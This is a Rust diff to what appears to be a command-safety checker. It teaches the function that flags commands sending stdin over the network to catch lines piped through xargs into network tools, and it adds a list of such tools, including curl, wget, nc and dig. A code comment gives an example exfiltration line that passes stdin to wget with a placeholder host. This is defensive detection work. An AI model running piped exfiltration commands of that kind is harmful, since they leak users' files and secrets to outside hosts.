@@ -233,6 +233,16 @@ pub(super) fn decodes(c: &Cmd<'_>) -> bool {
 
 /// Whether the command sends what it reads on stdin.
 pub(super) fn sends_stdin(c: &Cmd<'_>) -> bool {
+    // `… | xargs -I{} wget "https://x/?d={}"`: each line read becomes an
+    // argument of a network program (a query, a name looked up).
+    let via_xargs = c
+        .words
+        .iter()
+        .take_while(|w| w.text != c.name)
+        .any(|w| w.text.rsplit('/').next() == Some("xargs"));
+    if via_xargs && XARGS_SENDERS.contains(&c.name.as_str()) {
+        return true;
+    }
     match c.name.as_str() {
         "curl" => c
             .args
@@ -254,6 +264,12 @@ pub(super) fn sends_stdin(c: &Cmd<'_>) -> bool {
         _ => false,
     }
 }
+
+/// Network programs that carry what `xargs` gives them to a host: in a
+/// URL, a form field, a name looked up.
+const XARGS_SENDERS: &[&str] = &[
+    "curl", "wget", "nslookup", "dig", "host", "drill", "nc", "ncat", "http", "https", "ping",
+];
 
 pub(super) fn first_url(args: &[Word]) -> Option<String> {
     args.iter()
